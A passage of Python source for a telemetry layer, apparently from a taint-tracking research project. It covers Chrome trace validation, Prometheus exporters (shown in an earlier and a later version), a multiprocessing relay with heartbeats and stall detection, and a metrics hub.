    document = to_chrome_trace(records, run_id=run_id)
    with open(path, "w", encoding="utf-8") as handle:
        json.dump(document, handle, separators=(",", ":"))
    return document


def validate_chrome_trace(document: Union[dict, str]) -> dict:
    """Structural validation of an exported trace; raises ``ValueError``.

    Checks the contract the CI report-smoke job freezes: the document is
    the JSON-object trace form with a non-empty ``traceEvents`` array,
    every event carries name/ph/ts/pid/tid, complete events carry a
    non-negative ``dur``, and ``ts`` is monotonically non-decreasing
    within each ``tid``.  Returns summary counts.
    """
    if isinstance(document, str):
        document = json.loads(document)
    if not isinstance(document, dict) or "traceEvents" not in document:
        raise ValueError("not a JSON-object Chrome trace (no traceEvents)")
    events = document["traceEvents"]
    if not isinstance(events, list) or not events:
        raise ValueError("traceEvents must be a non-empty array")
    last_ts: Dict[int, float] = {}
    spans = 0
    instants = 0
    for position, event in enumerate(events):
        for key in _REQUIRED_EVENT_KEYS:
            if key not in event:
                raise ValueError(f"event {position} is missing {key!r}")
        if not isinstance(event["ts"], (int, float)) or event["ts"] < 0:
            raise ValueError(f"event {position} has bad ts {event['ts']!r}")
        if event["ph"] == "M":
            continue
        tid = event["tid"]
        if event["ts"] < last_ts.get(tid, 0.0):
            raise ValueError(
                f"event {position} ts {event['ts']} went backwards "
                f"within tid {tid}"
            )
        last_ts[tid] = event["ts"]
        if event["ph"] == "X":
            if not isinstance(event.get("dur"), (int, float)) or event["dur"] < 0:
                raise ValueError(f"event {position} (X) has bad dur")
            spans += 1
        else:
            instants += 1
    return {
        "events": spans + instants,
        "spans": spans,
        "instants": instants,
        "tids": sorted(last_ts),
    }

"""Snapshot exporters: JSON-ready dicts and Prometheus text format.

Two consumers are served:

* machines — :func:`snapshot` nests every instrument under its family and
  is ``json.dumps``-able as-is (the CLI's ``--metrics-dump json``);
* scrapers — :func:`to_prometheus_text` renders the Prometheus text
  exposition format (``--metrics-dump prom``), with dotted metric names
  mapped to underscore form (``tracker.taint_ops`` →
  ``pift_tracker_taint_ops``) and histograms expanded to the standard
  ``_bucket``/``_sum``/``_count`` series.
"""

from __future__ import annotations

import json
from typing import Optional

from repro.telemetry.metrics import (
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
)

PROMETHEUS_PREFIX = "pift"


def snapshot(registry: MetricsRegistry) -> dict:
    """``{family: {metric_name: {kind, value, ...}}}`` for JSON output."""
    return registry.as_dict()


def snapshot_json(registry: MetricsRegistry, indent: Optional[int] = 2) -> str:
    return json.dumps(snapshot(registry), indent=indent, sort_keys=True)


def _prom_name(name: str) -> str:
    return f"{PROMETHEUS_PREFIX}_" + name.replace(".", "_").replace("-", "_")


def _format_value(value) -> str:
    if value is None:
        return "NaN"
    if isinstance(value, float) and value == float("inf"):
        return "+Inf"
    return repr(value) if isinstance(value, float) else str(value)


def to_prometheus_text(registry: MetricsRegistry) -> str:
    """Render every instrument in the Prometheus text exposition format."""
    lines = []
    for metric in registry:
        name = _prom_name(metric.name)
        if metric.help:
            lines.append(f"# HELP {name} {metric.help}")
        if isinstance(metric, Histogram):
            lines.append(f"# TYPE {name} histogram")
            cumulative = 0
            for le, count in zip(metric.buckets, metric.counts):
                cumulative += count
                lines.append(
                    f'{name}_bucket{{le="{_format_value(float(le))}"}} '
                    f"{cumulative}"
                )
            cumulative += metric.counts[-1]
            lines.append(f'{name}_bucket{{le="+Inf"}} {cumulative}')
            lines.append(f"{name}_sum {_format_value(metric.sum)}")
            lines.append(f"{name}_count {metric.count}")
        elif isinstance(metric, Gauge):
            lines.append(f"# TYPE {name} gauge")
            lines.append(f"{name} {_format_value(metric.value)}")
        elif isinstance(metric, Counter):
            lines.append(f"# TYPE {name} counter")
            lines.append(f"{name}_total {metric.value}")
        else:  # pragma: no cover - registry only creates the above
            continue
    return "\n".join(lines) + ("\n" if lines else "")

"""Snapshot exporters: JSON-ready dicts and Prometheus text format.

Two consumers are served:

* machines — :func:`snapshot` nests every instrument under its family and
  is ``json.dumps``-able as-is (the CLI's ``--metrics-dump json``);
* scrapers — :func:`to_prometheus_text` renders the Prometheus text
  exposition format (``--metrics-dump prom``), with dotted metric names
  mapped to underscore form (``tracker.taint_ops`` →
  ``pift_tracker_taint_ops``) and histograms expanded to the standard
  ``_bucket``/``_sum``/``_count`` series.
"""

from __future__ import annotations

import json
from typing import Optional

from repro.telemetry.metrics import (
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
)

PROMETHEUS_PREFIX = "pift"

#: The Content-Type an HTTP scrape endpoint must answer with (the
#: text exposition format version Prometheus negotiates by default).
PROMETHEUS_CONTENT_TYPE = "text/plain; version=0.0.4; charset=utf-8"


def snapshot(registry: MetricsRegistry) -> dict:
    """``{family: {metric_name: {kind, value, ...}}}`` for JSON output."""
    return registry.as_dict()


def snapshot_json(registry: MetricsRegistry, indent: Optional[int] = 2) -> str:
    return json.dumps(snapshot(registry), indent=indent, sort_keys=True)


def _prom_name(name: str) -> str:
    return f"{PROMETHEUS_PREFIX}_" + name.replace(".", "_").replace("-", "_")


def _format_value(value) -> str:
    if value is None:
        return "NaN"
    if isinstance(value, float) and value == float("inf"):
        return "+Inf"
    return repr(value) if isinstance(value, float) else str(value)


def escape_label_value(value) -> str:
    """Escape a label value per the Prometheus text exposition format.

    Backslash, double-quote and newline are the three characters the
    format requires escaping inside a quoted label value.
    """
    return (
        str(value)
        .replace("\\", "\\\\")
        .replace('"', '\\"')
        .replace("\n", "\\n")
    )


def _prom_labels(labels, extra=None) -> str:
    """Render ``{k="v",...}`` (escaped, sorted) or ``""`` when empty."""
    pairs = dict(labels or {})
    if extra:
        pairs.update(extra)
    if not pairs:
        return ""
    inner = ",".join(
        f'{key}="{escape_label_value(pairs[key])}"' for key in sorted(pairs)
    )
    return f"{{{inner}}}"


def to_prometheus_text(registry: MetricsRegistry) -> str:
    """Render every instrument in the Prometheus text exposition format.

    Labelled series of one metric name share a single ``# HELP`` /
    ``# TYPE`` header (the registry iterates name-adjacent), and label
    values are escaped per the exposition format.
    """
    lines = []
    described = None
    for metric in registry:
        name = _prom_name(metric.name)
        labels = _prom_labels(metric.labels)
        if name != described:
            if metric.help:
                lines.append(f"# HELP {name} {metric.help}")
            lines.append(f"# TYPE {name} {metric.kind}")
            described = name
        if isinstance(metric, Histogram):
            cumulative = 0
            for le, count in zip(metric.buckets, metric.counts):
                cumulative += count
                bucket_labels = _prom_labels(
                    metric.labels, {"le": _format_value(float(le))}
                )
                lines.append(f"{name}_bucket{bucket_labels} {cumulative}")
            cumulative += metric.counts[-1]
            bucket_labels = _prom_labels(metric.labels, {"le": "+Inf"})
            lines.append(f"{name}_bucket{bucket_labels} {cumulative}")
            lines.append(f"{name}_sum{labels} {_format_value(metric.sum)}")
            lines.append(f"{name}_count{labels} {metric.count}")
        elif isinstance(metric, Gauge):
            lines.append(f"{name}{labels} {_format_value(metric.value)}")
        elif isinstance(metric, Counter):
            lines.append(f"{name}_total{labels} {metric.value}")
        else:  # pragma: no cover - registry only creates the above
            continue
    return "\n".join(lines) + ("\n" if lines else "")


def scrape_body(
    registry: MetricsRegistry, extra_text: str = ""
) -> "tuple[bytes, str]":
    """``(body, content_type)`` for an HTTP ``/metrics`` scrape response.

    The serve daemon's HTTP endpoint reuses the same renderer the CLI's
    ``--metrics-dump prom`` uses; ``extra_text`` lets a server append
    endpoint-local series (shard counts, migrations) after the registry's
    without re-implementing the exposition format.
    """
    text = to_prometheus_text(registry)
    if extra_text:
        text += extra_text if text.endswith("\n") or not text else "\n" + extra_text
    return text.encode("utf-8"), PROMETHEUS_CONTENT_TYPE

"""Cross-process telemetry relay: worker hubs report back to the parent.

``run_sweep`` workers used to be observability-silent: every span and
counter mutated inside a pool worker died with the worker.  This module
is the channel that ships them home:

* **worker side** — :func:`init_worker_telemetry` (called from the pool
  initializer) builds a private :class:`~repro.telemetry.hub.Telemetry`
  hub per worker whose writer is a :class:`RelayWriter`: selected event
  types (spans, cell markers — never per-mutation tracker events, which
  would both flood the queue and disable the vectorised kernel) are
  batched by a :class:`RelayClient` and shipped over a
  ``multiprocessing`` queue with **non-blocking** puts — a full queue
  never stalls a worker, it just drops the batch and counts it.  A
  daemon heartbeat thread reports liveness (and the cell currently being
  evaluated) every ``heartbeat_interval`` seconds, and after each cell
  the worker ships a **metric delta snapshot** of its registry;
* **parent side** — :class:`TelemetryRelay` drains the queue on a
  background thread, re-emits worker events into the parent hub (tagged
  ``worker_id`` / ``cell_index`` / ``pid``), folds metric deltas into
  the parent registry (:func:`merge_wire`), and feeds heartbeats to a
  :class:`StallDetector` that raises ``worker_stall`` telemetry events
  (and the CLI's ``--stall-timeout`` warning callback) when a worker
  goes quiet mid-cell.

The relay only exists when telemetry is enabled; a telemetry-off sweep
constructs none of this and workers run exactly the pre-relay code path.
Everything shipped is observational — results remain bit-identical to a
relay-less run (parity-tested in ``tests/unit/test_relay.py``).
"""

from __future__ import annotations

import os
import queue as queue_module
import threading
import time
from typing import Callable, Dict, FrozenSet, List, Optional, Tuple

from repro.telemetry.hub import Telemetry
from repro.telemetry.metrics import MetricsRegistry, labeled_name

#: Event types a worker ships by default.  Deliberately narrow: spans and
#: cell markers are per-cell volume; per-mutation tracker/fault events
#: are represented by the metric snapshot instead.
DEFAULT_SHIP_TYPES: FrozenSet[str] = frozenset(
    {"span", "cell_start", "cell_end", "worker_start"}
)

#: Parent-side queue capacity, in messages (a message batches many events).
DEFAULT_QUEUE_SIZE = 4096

#: Events buffered worker-side before a queue put.
DEFAULT_MAX_BATCH = 64

#: Seconds between worker heartbeats.
DEFAULT_HEARTBEAT_INTERVAL = 0.25

#: Cumulative-stat fields a histogram wire entry carries.
_HIST_STATE = ("counts", "count", "sum")

StallCallback = Callable[[int, Optional[int], float], None]


# -- metric wire format ------------------------------------------------------


def registry_wire_delta(registry: MetricsRegistry, last: Dict[str, dict]) -> dict:
    """The registry's change since ``last`` in relay wire form.

    ``last`` is the client's persistent per-metric state and is updated
    in place, so calling once per cell ships per-cell deltas; counters
    and histograms merge additively parent-side, gauges ship their
    current value and high-water mark.  Untouched metrics ship nothing.
    """
    wire: dict = {}
    for metric in registry:
        key = labeled_name(metric.name, metric.labels)
        entry: Optional[dict] = None
        if metric.kind == "counter":
            previous = last.get(key, {}).get("value", 0)
            if metric.value != previous:
                entry = {"inc": metric.value - previous}
            last[key] = {"value": metric.value}
        elif metric.kind == "gauge":
            previous = last.get(key)
            state = {"value": metric.value, "max": metric.max_value}
            if previous != state:
                entry = dict(state)
            last[key] = state
        elif metric.kind == "histogram":
            previous = last.get(
                key, {"counts": [0] * len(metric.counts), "count": 0, "sum": 0.0}
            )
            if metric.count != previous["count"]:
                entry = {
                    "counts": [
                        now - before
                        for now, before in zip(metric.counts, previous["counts"])
                    ],
                    "count": metric.count - previous["count"],
                    "sum": metric.sum - previous["sum"],
                    "min": metric.min,
                    "max": metric.max,
                    "buckets": list(metric.buckets),
                }
            last[key] = {
                "counts": list(metric.counts),
                "count": metric.count,
                "sum": metric.sum,
            }
        if entry is not None:
            entry["kind"] = metric.kind
            entry["name"] = metric.name
            if metric.labels:
                entry["labels"] = dict(metric.labels)
            wire[key] = entry
    return wire


def merge_wire(
    registry: MetricsRegistry, wire: dict, worker_id: Optional[int] = None
) -> None:
    """Fold one worker's metric delta into the parent registry.

    Counters and histograms merge additively into the *unlabelled*
    parent series (totals across workers); gauges are per-worker state,
    so they land as separate ``worker_id``-labelled series.
    """
    for entry in wire.values():
        labels = entry.get("labels")
        if entry["kind"] == "counter":
            registry.counter(entry["name"], labels=labels).inc(entry["inc"])
        elif entry["kind"] == "gauge":
            gauge_labels = dict(labels or {})
            if worker_id is not None:
                gauge_labels.setdefault("worker_id", str(worker_id))
            gauge = registry.gauge(entry["name"], labels=gauge_labels or None)
            gauge.set(entry["max"])  # preserve the worker's high-water mark
            gauge.set(entry["value"])
        elif entry["kind"] == "histogram":
            histogram = registry.histogram(
                entry["name"], buckets=entry["buckets"], labels=labels
            )
            if list(histogram.buckets) == list(entry["buckets"]):
                histogram.merge_counts(
                    entry["counts"],
                    entry["count"],
                    entry["sum"],
                    entry.get("min"),
                    entry.get("max"),
                )


# -- worker side -------------------------------------------------------------


class RelayClient:
    """Worker-side end of the relay: batch, ship, never block, count drops."""

    def __init__(
        self,
        channel,
        worker_id: int,
        pid: Optional[int] = None,
        max_batch: int = DEFAULT_MAX_BATCH,
    ) -> None:
        if max_batch < 1:
            raise ValueError("max_batch must be >= 1")
        self.channel = channel
        self.worker_id = worker_id
        self.pid = pid if pid is not None else os.getpid()
        self.max_batch = max_batch
        #: Cell currently being evaluated (None between cells); stamped
        #: onto heartbeats and relayed records for attribution.
        self.current_cell: Optional[int] = None
        #: Events lost to queue backpressure (cumulative, shipped with
        #: every message so the parent always sees the latest count).
        self.dropped_events = 0
        self.dropped_messages = 0
        self.sent_messages = 0
        self._batch: List[dict] = []
        self._metric_state: Dict[str, dict] = {}

    # -- shipping ---------------------------------------------------------

    def _put(self, message: dict, event_cost: int = 0) -> bool:
        try:
            self.channel.put_nowait(message)
        except queue_module.Full:
            self.dropped_events += event_cost
            self.dropped_messages += 1
            return False
        self.sent_messages += 1
        return True

    def emit_record(self, record: dict) -> None:
        """Buffer one event record; ships when the batch fills."""
        self._batch.append(record)
        if len(self._batch) >= self.max_batch:
            self.flush()

    def flush(self) -> None:
        if not self._batch:
            return
        batch, self._batch = self._batch, []
        self._put(
            {
                "kind": "events",
                "worker_id": self.worker_id,
                "pid": self.pid,
                "events": batch,
                "dropped": self.dropped_events,
            },
            event_cost=len(batch),
        )

    def heartbeat(self) -> None:
        """Non-blocking liveness ping carrying the cell under evaluation."""
        self._put(
            {
                "kind": "heartbeat",
                "worker_id": self.worker_id,
                "pid": self.pid,
                "cell_index": self.current_cell,
                "mono": time.perf_counter(),
                "dropped": self.dropped_events,
            }
        )

    def ship_snapshot(self, registry: MetricsRegistry, cell_index: int) -> None:
        """Ship the registry's delta since the last snapshot (end of cell)."""
        wire = registry_wire_delta(registry, self._metric_state)
        self.flush()
        self._put(
            {
                "kind": "snapshot",
                "worker_id": self.worker_id,
                "pid": self.pid,
                "cell_index": cell_index,
                "metrics": wire,
                "dropped": self.dropped_events,
            }
        )


class RelayWriter:
    """Hub writer that forwards whitelisted events to a :class:`RelayClient`.

    Everything else (per-mutation tracker events, CPU batches) returns
    immediately — those stay metric-only worker-side, keeping the hot
    path untouched and the queue volume bounded by cells, not events.
    """

    path: Optional[str] = None

    def __init__(
        self,
        client: RelayClient,
        ship_types: FrozenSet[str] = DEFAULT_SHIP_TYPES,
    ) -> None:
        self.client = client
        self.ship_types = frozenset(ship_types)
        self.event_count = 0
        self.closed = False

    def emit(self, event_type: str, **fields) -> None:
        if event_type not in self.ship_types:
            return
        record = {
            "type": event_type,
            "mono": time.perf_counter(),
            "worker_id": self.client.worker_id,
        }
        if self.client.current_cell is not None:
            record["cell_index"] = self.client.current_cell
        record.update(fields)
        self.client.emit_record(record)
        self.event_count += 1

    def flush(self) -> None:
        self.client.flush()

    def close(self) -> None:
        self.client.flush()
        self.closed = True


class _HeartbeatThread(threading.Thread):
    """Daemon timer ticking :meth:`RelayClient.heartbeat` until stopped."""

    def __init__(self, client: RelayClient, interval: float) -> None:
        super().__init__(name=f"relay-heartbeat-{client.worker_id}", daemon=True)
        self.client = client
        self.interval = interval
        self.stop_event = threading.Event()

    def run(self) -> None:
        while not self.stop_event.wait(self.interval):
            self.client.heartbeat()


def init_worker_telemetry(payload: dict) -> Telemetry:
    """Build this worker's relay-backed hub (pool-initializer side).

    ``payload`` comes from :meth:`TelemetryRelay.worker_payload`: the
    shared queue, the worker-id counter, and the tuning knobs.  The hub
    carries its :class:`RelayClient` as ``hub.relay_client`` so the
    engine's cell wrapper can mark cell boundaries and ship snapshots.
    """
    counter = payload["counter"]
    with counter.get_lock():
        counter.value += 1
        worker_id = counter.value
    client = RelayClient(
        payload["queue"],
        worker_id,
        max_batch=payload.get("max_batch", DEFAULT_MAX_BATCH),
    )
    hub = Telemetry(
        writer=RelayWriter(
            client, payload.get("ship_types", DEFAULT_SHIP_TYPES)
        )
    )
    hub.relay_client = client
    hub.event("worker_start", pid=client.pid)
    client.heartbeat()
    interval = payload.get("heartbeat_interval", DEFAULT_HEARTBEAT_INTERVAL)
    if interval:
        _HeartbeatThread(client, interval).start()
    return hub


# -- parent side -------------------------------------------------------------


class StallDetector:
    """Pure stall bookkeeping: who was heard from when, working on what.

    A worker counts as stalled when it has an active cell and no message
    has arrived for longer than ``timeout``; it re-arms (and may stall
    again) once a new message arrives.  Time is injected, so tests drive
    it with a fake clock.
    """

    def __init__(self, timeout: float) -> None:
        if timeout <= 0:
            raise ValueError("stall timeout must be positive")
        self.timeout = timeout
        self._last_seen: Dict[int, float] = {}
        self._cell: Dict[int, Optional[int]] = {}
        self._stalled: Dict[int, bool] = {}

    def note(
        self,
        worker_id: int,
        now: float,
        cell_index: Optional[int] = None,
        keep_cell: bool = False,
    ) -> bool:
        """Record a message from ``worker_id``; True when it recovered."""
        self._last_seen[worker_id] = now
        if not keep_cell:
            self._cell[worker_id] = cell_index
        recovered = self._stalled.get(worker_id, False)
        self._stalled[worker_id] = False
        return recovered

    def check(self, now: float) -> List[Tuple[int, Optional[int], float]]:
        """Workers newly quiet past the timeout: (worker, cell, quiet_s)."""
        stalls = []
        for worker_id, seen in self._last_seen.items():
            quiet = now - seen
            if (
                quiet > self.timeout
                and self._cell.get(worker_id) is not None
                and not self._stalled.get(worker_id)
            ):
                self._stalled[worker_id] = True
                stalls.append((worker_id, self._cell[worker_id], quiet))
        return stalls


class TelemetryRelay:
    """Parent-side relay: drain worker messages, merge, watch for stalls.

    Create one per parallel sweep (when telemetry is enabled), hand
    :meth:`worker_payload` to the pool initializer, :meth:`start` the
    drain thread before workers run, and :meth:`stop` after the pool has
    joined — stop drains whatever is left, folds per-worker drop counts
    into ``sweep.relay.*`` metrics, and emits a ``relay_summary`` event.
    """

    def __init__(
        self,
        telemetry: Telemetry,
        context,
        stall_timeout: Optional[float] = None,
        on_stall: Optional[StallCallback] = None,
        heartbeat_interval: float = DEFAULT_HEARTBEAT_INTERVAL,
        queue_size: int = DEFAULT_QUEUE_SIZE,
        max_batch: int = DEFAULT_MAX_BATCH,
        ship_types: FrozenSet[str] = DEFAULT_SHIP_TYPES,
        on_heartbeat: Optional[Callable[[Optional[int]], None]] = None,
    ) -> None:
        self.telemetry = telemetry
        self.queue = context.Queue(queue_size)
        self._counter = context.Value("i", 0)
        self.heartbeat_interval = heartbeat_interval
        self.max_batch = max_batch
        self.ship_types = frozenset(ship_types)
        self.on_stall = on_stall
        #: Called with the worker's pid on every heartbeat (from the
        #: drain thread) — the queue backend hooks this to renew leases.
        self.on_heartbeat = on_heartbeat
        self.detector = (
            StallDetector(stall_timeout) if stall_timeout else None
        )
        self.events_merged = 0
        self.heartbeats = 0
        self.snapshots = 0
        self.stalls: List[Tuple[int, Optional[int], float]] = []
        self.dropped: Dict[int, int] = {}
        self.worker_pids: Dict[int, int] = {}
        self._thread: Optional[threading.Thread] = None
        self._stop = threading.Event()

    # -- wiring -----------------------------------------------------------

    def worker_payload(self) -> dict:
        """What the pool initializer needs to build worker hubs."""
        return {
            "queue": self.queue,
            "counter": self._counter,
            "heartbeat_interval": self.heartbeat_interval,
            "max_batch": self.max_batch,
            "ship_types": self.ship_types,
        }

    def start(self) -> None:
        self._thread = threading.Thread(
            name="telemetry-relay", target=self._drain_loop, daemon=True
        )
        self._thread.start()

    def stop(self) -> None:
        """Drain the tail, join the thread, publish relay accounting."""
        self._stop.set()
        try:
            # Wake the drain thread immediately instead of letting it
            # sleep out its poll timeout; all real worker messages were
            # queued before stop() (results are consumed first), so they
            # sit ahead of this sentinel and still drain FIFO.
            self.queue.put_nowait({"kind": "wake"})
        except (queue_module.Full, ValueError, OSError):
            pass  # full queue wakes the getter by itself; closed is done
        if self._thread is not None:
            self._thread.join()
            self._thread = None
        try:
            # A worker SIGKILLed mid-put can die holding the queue's
            # shared write lock; without this, interpreter exit joins
            # the feeder thread, which blocks on that lock forever.
            self.queue.cancel_join_thread()
            self.queue.close()
        except (OSError, ValueError):
            pass
        dropped_total = sum(self.dropped.values())
        metrics = self.telemetry.metrics
        metrics.counter(
            "sweep.relay.events_merged", "worker events merged by the relay"
        ).inc(self.events_merged)
        metrics.counter(
            "sweep.relay.heartbeats", "worker heartbeats received"
        ).inc(self.heartbeats)
        if dropped_total:
            metrics.counter(
                "sweep.relay.dropped_events",
                "worker events lost to relay backpressure",
            ).inc(dropped_total)
        self.telemetry.event(
            "relay_summary",
            workers=len(self.worker_pids),
            events_merged=self.events_merged,
            heartbeats=self.heartbeats,
            snapshots=self.snapshots,
            dropped_events=dropped_total,
            stalls=len(self.stalls),
        )

    # -- drain loop -------------------------------------------------------

    def _drain_loop(self) -> None:
        while True:
            stopping = self._stop.is_set()
            try:
                if stopping:  # non-blocking tail drain after stop()
                    message = self.queue.get_nowait()
                else:
                    message = self.queue.get(timeout=0.05)
            except queue_module.Empty:
                if stopping:
                    return
                message = None
            except (EOFError, OSError):  # queue torn down under us
                return
            except Exception:
                # A worker SIGKILLed mid-put can leave a half-pickled
                # message in the pipe; drop it instead of letting an
                # unpickling error kill the drain thread.
                message = None
            if message is not None and message.get("kind") != "wake":
                self._handle(message)
            self._check_stalls()

    def _handle(self, message: dict) -> None:
        worker_id = message["worker_id"]
        now = time.perf_counter()
        self.worker_pids.setdefault(worker_id, message.get("pid"))
        previous = self.dropped.get(worker_id, 0)
        self.dropped[worker_id] = max(previous, message.get("dropped", 0))
        kind = message["kind"]
        if kind == "heartbeat":
            self.heartbeats += 1
            if self.on_heartbeat is not None:
                self.on_heartbeat(message.get("pid"))
            if self.detector is not None:
                self.detector.note(
                    worker_id, now, cell_index=message.get("cell_index")
                )
            self.telemetry.event(
                "heartbeat",
                worker_id=worker_id,
                pid=message.get("pid"),
                cell_index=message.get("cell_index"),
                mono=message.get("mono"),
            )
        elif kind == "events":
            if self.detector is not None:
                self.detector.note(worker_id, now, keep_cell=True)
            for record in message["events"]:
                record.setdefault("pid", message.get("pid"))
                fields = {
                    key: value
                    for key, value in record.items()
                    if key != "type"
                }
                self.telemetry.event(record["type"], **fields)
                self.events_merged += 1
        elif kind == "snapshot":
            self.snapshots += 1
            if self.detector is not None:
                self.detector.note(worker_id, now, cell_index=None)
            merge_wire(
                self.telemetry.metrics, message["metrics"], worker_id=worker_id
            )

    def _check_stalls(self) -> None:
        if self.detector is None:
            return
        for worker_id, cell_index, quiet in self.detector.check(
            time.perf_counter()
        ):
            self.stalls.append((worker_id, cell_index, quiet))
            self.telemetry.metrics.counter(
                "sweep.worker.stalls", "workers gone quiet mid-cell"
            ).inc()
            self.telemetry.event(
                "worker_stall",
                worker_id=worker_id,
                pid=self.worker_pids.get(worker_id),
                cell_index=cell_index,
                quiet_seconds=round(quiet, 3),
            )
            if self.on_stall is not None:
                self.on_stall(worker_id, cell_index, quiet)

"""The ``Telemetry`` hub: one handle bundling metrics, events and spans.

Components across the stack accept an optional hub and normalise it with
:func:`active` — the contract that keeps the disabled path at literally
zero cost:

* **disabled (default)** — constructors receive ``None`` (or a hub with
  ``enabled=False``); ``active`` maps both to ``None``, the component
  stores ``None``, and every hook site is one ``if tel is not None``
  branch on a local.  No instrument lookups, no allocations, no calls.
* **metrics only** — ``Telemetry()`` with no writer: counters, gauges and
  span histograms accumulate in-process; snapshot via :meth:`snapshot`
  or :meth:`prometheus`.
* **full tracing** — attach a :class:`~repro.telemetry.writer
  .TelemetryWriter` and every mutation/span/batch also lands in the
  JSONL event stream.

The hub is intentionally not global: it is threaded through constructors
(``AndroidDevice(telemetry=...)``, ``PIFTTracker(telemetry=...)``) so
concurrent stacks — e.g. the 57 suite devices — can share one hub or use
none, explicitly.
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.telemetry.metrics import (
    DEFAULT_SIZE_BUCKETS,
    DEFAULT_TIME_BUCKETS,
    MetricsRegistry,
    NullRegistry,
)
from repro.telemetry.spans import Span, SpanContext
from repro.telemetry.writer import TelemetryWriter


class Telemetry:
    """Aggregates a metrics registry, an optional event writer, and spans.

    Args:
        enabled: master switch; a disabled hub records nothing and hands
            out no-op instruments.
        writer: optional JSONL event sink; ignored when disabled.
        registry: bring-your-own registry (tests share one across hubs).
        cpu_batch_sample: emit every Nth ``cpu_batch`` event to the writer
            (CPU batches are the highest-frequency event source — one per
            emitted mterp routine — so they are sampled; counters stay
            exact).  ``1`` logs every batch.
    """

    def __init__(
        self,
        enabled: bool = True,
        writer: Optional[TelemetryWriter] = None,
        registry: Optional[MetricsRegistry] = None,
        cpu_batch_sample: int = 64,
    ) -> None:
        if cpu_batch_sample < 1:
            raise ValueError("cpu_batch_sample must be >= 1")
        self.enabled = enabled
        if registry is not None:
            self.metrics = registry
        else:
            self.metrics = MetricsRegistry() if enabled else NullRegistry()
        self.writer: Optional[TelemetryWriter] = writer if enabled else None
        self.cpu_batch_sample = cpu_batch_sample
        self._span_stack: List[Span] = []

    # -- events ----------------------------------------------------------

    def event(self, event_type: str, **fields) -> None:
        """Emit one structured event when a writer is attached."""
        if self.writer is not None:
            self.writer.emit(event_type, **fields)

    # -- spans -----------------------------------------------------------

    def span(self, name: str, **attributes) -> SpanContext:
        """Open a nested wall-time span (use as a context manager)."""
        return SpanContext(self, name, attributes)

    @property
    def current_span(self) -> Optional[Span]:
        return self._span_stack[-1] if self._span_stack else None

    # -- export ----------------------------------------------------------

    def snapshot(self) -> dict:
        from repro.telemetry.exporters import snapshot

        return snapshot(self.metrics)

    def prometheus(self) -> str:
        from repro.telemetry.exporters import to_prometheus_text

        return to_prometheus_text(self.metrics)

    def close(self) -> None:
        if self.writer is not None:
            self.writer.close()

    def __enter__(self) -> "Telemetry":
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.close()

    # -- construction helpers -------------------------------------------

    @classmethod
    def disabled(cls) -> "Telemetry":
        return _DISABLED

    def preregister_standard(self) -> "Telemetry":
        """Create the standard instrument families up front.

        Guarantees that a snapshot taken after any run contains at least
        the ``tracker``, ``buffer``, ``faults``, ``cpu``, ``vm``,
        ``manager`` and ``store`` families, even for workloads that never exercise a
        subsystem (e.g. a pure-replay run never builds a
        ``BufferedPIFT``, and most runs inject no faults).
        """
        m = self.metrics
        m.counter("tracker.events", "memory events observed")
        m.counter("tracker.loads", "load events observed")
        m.counter("tracker.stores", "store events observed")
        m.counter("tracker.tainted_loads", "loads that hit tainted state")
        m.counter("tracker.taint_ops", "in-window store taint operations")
        m.counter("tracker.untaint_ops", "effective untaint operations")
        m.counter("tracker.windows_opened", "tainting windows opened")
        m.counter("tracker.windows_closed", "tainting windows closed")
        m.counter("tracker.sources", "source ranges registered")
        m.counter("tracker.checks", "sink-range taint queries")
        m.gauge("tracker.tainted_bytes", "current tainted bytes")
        m.gauge("tracker.range_count", "current taint-state range count")
        m.counter("buffer.events", "events enqueued to the FIFO")
        m.counter("buffer.drains", "drain batches executed")
        m.counter("buffer.events_drained", "events processed by drains")
        m.gauge("buffer.queue_depth", "current FIFO depth")
        m.histogram("buffer.drain_seconds", "drain batch wall time",
                    buckets=DEFAULT_TIME_BUCKETS)
        m.counter("buffer.forced_drops", "events lost to the overflow policy")
        m.counter("buffer.spilled_events", "events spilled to secondary memory")
        m.counter("buffer.backpressure_engagements", "high-watermark crossings")
        m.counter("faults.events_dropped", "events lost in flight")
        m.counter("faults.events_duplicated", "events delivered twice")
        m.counter("faults.events_reordered", "events released out of order")
        m.counter("faults.addresses_corrupted",
                  "events with a flipped address bit")
        m.counter("faults.state_entries_dropped",
                  "taint ranges discarded from storage")
        m.counter("faults.eviction_storms", "bulk LRU evictions injected")
        m.counter("faults.stall_events", "secondary-storage stalls injected")
        m.counter("cpu.instructions", "instructions retired")
        m.counter("cpu.batches", "instruction batches executed")
        m.histogram("cpu.batch_seconds", "instruction batch wall time",
                    buckets=DEFAULT_TIME_BUCKETS)
        m.gauge("cpu.instructions_per_second", "throughput of the last batch")
        m.counter("vm.method_calls", "entry-point method calls")
        m.counter("vm.invokes", "bytecode-level method invocations")
        m.counter("vm.bytecodes", "bytecodes interpreted")
        m.counter("manager.sources_registered", "framework source events")
        m.counter("manager.sink_checks", "framework sink checks")
        m.counter("manager.leaks", "sink checks that found taint")
        m.counter("store.hits", "store entry hits")
        m.counter("store.misses", "store entry misses")
        m.counter("store.writes", "store entries written")
        m.counter("store.corruptions", "corrupt entries quarantined")
        return self


_DISABLED = Telemetry(enabled=False)


def active(telemetry: Optional[Telemetry]) -> Optional[Telemetry]:
    """Normalise an optional hub: ``None`` or disabled → ``None``.

    Components call this once in their constructor and keep the result;
    hot paths then need only a ``is not None`` test.
    """
    if telemetry is None or not telemetry.enabled:
        return None
    return telemetry

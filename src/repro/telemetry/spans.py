"""Wall-time spans: context-manager and decorator timing with nesting.

A span measures one logical operation (a drain, a VM method call, a whole
suite evaluation).  Closing a span

* observes its duration into the histogram ``span.<name>`` of the hub's
  registry (fixed time buckets, so percentiles come for free), and
* emits a ``span`` event to the hub's JSONL writer (when one is attached)
  carrying name, duration, nesting depth and parent span name.

Nesting is tracked per hub with an explicit stack, so a span opened while
another is active records its parent — enough to reconstruct the call
tree from the event stream (events close in LIFO order).
"""

from __future__ import annotations

import functools
import time
from dataclasses import dataclass, field
from typing import Dict, Optional

from repro.telemetry.metrics import DEFAULT_TIME_BUCKETS


@dataclass
class Span:
    """One timed operation; ``duration`` is valid once the span closed."""

    name: str
    attributes: Dict[str, object] = field(default_factory=dict)
    parent: Optional[str] = None
    depth: int = 0
    start: float = 0.0
    duration: float = 0.0


class SpanContext:
    """Context manager produced by :meth:`Telemetry.span`."""

